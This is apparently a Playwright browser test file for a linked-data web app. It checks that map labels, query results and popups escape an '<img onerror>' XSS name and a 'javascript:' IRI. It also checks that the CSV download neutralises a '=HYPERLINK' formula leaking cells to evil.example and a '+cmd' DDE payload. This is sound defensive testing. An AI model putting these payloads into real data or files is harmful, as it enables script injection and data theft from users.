"""Names that are markup, in a real browser: the map labels on ``/``, on a city page and in the ``/query`` map view
show them as text, and a ``javascript:`` IRI in the results never becomes a link in the map's popup.

The app serves the bundled build plus the hostile user graph of ``tests/webapp/data/hostile.ttl`` (see
``tests/webapp/test_markup_from_data.py`` for the rendered HTML of every page). The ``page`` fixture fails a test
on any console error, so an inline handler the Content-Security-Policy had to refuse would fail it too.
"""

from __future__ import annotations

import csv
import io

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import QUERY_TIME_LIMIT
from tests.conftest import running_ascn, store_copy
from tests.webapp.test_markup_from_data import hostile_graphs

NAME = "<img src=x onerror=\"document.title='pwned'\">Hostile Town"
ACTIVE = ".tabPanel.active"


@pytest.fixture(scope="module")
def site(tmp_path_factory, bundled_graphs) -> str:
    """This module's own ``ascn serve`` over the hostile store (the ``page`` fixture opens pages on it)."""
    settings = store_copy(tmp_path_factory.mktemp("hostile-served") / "data", hostile_graphs(bundled_graphs))
    with running_ascn(settings.data_dir, "--workers", "1", "--timeout", QUERY_TIME_LIMIT) as server:
        yield server.url.removesuffix("/sparql")


def _label_is_text(labels) -> None:
    expect(labels.filter(has_text="Hostile Town")).to_have_count(1)
    hostile = labels.filter(has_text="Hostile Town")
    assert hostile.inner_text() == NAME
    expect(hostile.locator("img")).to_have_count(0)


def test_home_map_labels_are_text(page):
    page.goto("/")
    expect(page.locator("#city-map .map-label")).to_have_count(39)
    _label_is_text(page.locator("#city-map .map-label"))
    assert page.title() != "pwned"


def test_city_page_map_label_is_text(page):
    page.goto("/id/city/hostile-town")
    _label_is_text(page.locator("#city-map .map-label"))
    expect(page.locator("a[href^='javascript']")).to_have_count(0)


def test_query_map_view_shows_names_as_text_and_no_javascript_link(page):
    # The page fixture fails on any console error: a name parsed as markup anywhere (the table's cells, its
    # filter data, the map) would try the onerror handler, and the Content-Security-Policy's refusal is one.
    page.goto("/query")
    page.wait_for_selector("body[data-examples-ready=true]")
    page.evaluate("""() => window.ascnYasgui.getTab().getYasqe().setValue(
        'PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\\n' +
        'PREFIX wgs: <http://www.w3.org/2003/01/geo/wgs84_pos#>\\n' +
        'SELECT ?link ?label ?lat ?long WHERE { <https://w3id.org/ascn/id/city/hostile-town> rdfs:label ?label ;' +
        ' wgs:lat ?lat ; wgs:long ?long . BIND(IRI(\"javascript:document.title=1\") AS ?link) }')""")
    page.click(f"{ACTIVE} .yasqe_queryButton")
    expect(page.locator(f"{ACTIVE} .yasr_results tbody tr")).to_have_count(1)
    expect(page.locator(f"{ACTIVE} .yasr_results tbody td").filter(has_text="Hostile Town")).to_contain_text(NAME)
    expect(page.locator(f"{ACTIVE} .yasr_results tbody img")).to_have_count(0)
    page.locator(f"{ACTIVE} .dataTables_filter input, {ACTIVE} input.tableFilter").first.fill("onerror")
    expect(page.locator(f"{ACTIVE} .yasr_results tbody tr")).to_have_count(1)  # the filter matches the text itself
    page.click(f"{ACTIVE} .select_map")
    _label_is_text(page.locator(f"{ACTIVE} .leaflet-tooltip"))
    page.locator(f"{ACTIVE} path.ascn-marker").click()
    popup = page.locator(f"{ACTIVE} .leaflet-popup-content")
    expect(popup.locator("strong")).to_have_text(NAME)
    expect(popup.locator("a")).to_have_count(0)
    expect(popup.locator("img")).to_have_count(0)


def test_the_tables_csv_download_gives_formulas_from_data_as_text(page):
    """The results table's download is a CSV to open in a spreadsheet, where a value starting with = or + would run
    as a formula (a loaded project's name: =HYPERLINK leaking other cells): it starts with a quote, as in the Find
    projects download; a value that does not is as the answer has it."""
    page.goto("/query")
    page.wait_for_selector("body[data-examples-ready=true]")
    page.evaluate("""() => window.ascnYasgui.getTab().getYasqe().setValue(
        'SELECT ?name ?description ?city WHERE { <https://w3id.org/ascn/id/project/formula-project> ' +
        '<http://www.w3.org/2000/01/rdf-schema#label> ?name ; <http://purl.org/dc/terms/description> ?description ;' +
        ' <https://w3id.org/ascn/ontology#inCity> ?city }')""")
    page.click(f"{ACTIVE} .yasqe_queryButton")
    expect(page.locator(f"{ACTIVE} .yasr_results tbody tr")).to_have_count(1)
    with page.expect_download() as download:
        page.locator(f"{ACTIVE} .yasr_downloadIcon").click()
    rows = list(csv.reader(io.StringIO(download.value.path().read_text(encoding="utf-8"), newline="")))
    assert rows == [
        ["name", "description", "city"],
        [
            '\'=HYPERLINK("https://evil.example/?leak="&A1,"Formula project")',
            "'+cmd|' /C calc'!A0",
            "https://w3id.org/ascn/id/city/hostile-town",
        ],
    ]
